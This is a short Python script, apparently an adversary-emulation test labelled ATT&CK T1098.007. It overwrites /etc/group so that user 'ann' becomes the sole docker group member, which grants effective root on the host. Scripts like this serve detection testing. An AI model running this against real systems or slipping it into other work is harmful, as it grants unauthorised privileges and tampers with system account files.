#!/usr/bin/env python3
# title: Python adds a user to docker's group in the file
# technique: T1098.007
# needs: python3

lines = [line for line in open("/etc/group") if not line.startswith("docker:")]
open("/etc/group", "w").writelines(lines + ["docker:x:998:ann\n"])
